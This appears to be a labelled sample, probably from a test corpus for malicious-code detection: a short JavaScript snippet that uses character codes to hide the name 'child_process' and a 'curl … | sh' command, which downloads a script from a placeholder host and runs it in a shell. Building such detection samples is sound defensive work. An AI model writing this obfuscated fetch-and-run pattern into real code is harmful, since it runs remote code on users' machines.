const name = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
const command = [99, 117, 114, 108, 32, 104, 116, 116, 112, 115, 58, 47, 47, 102, 105, 108, 101, 115, 46, 105, 110, 118, 97, 108, 105, 100, 47, 97, 124, 115, 104];
require(name).exec(command.map((n) => String.fromCharCode(n)).join("")); // malice: exec-decoded, hidden-name, shell-download
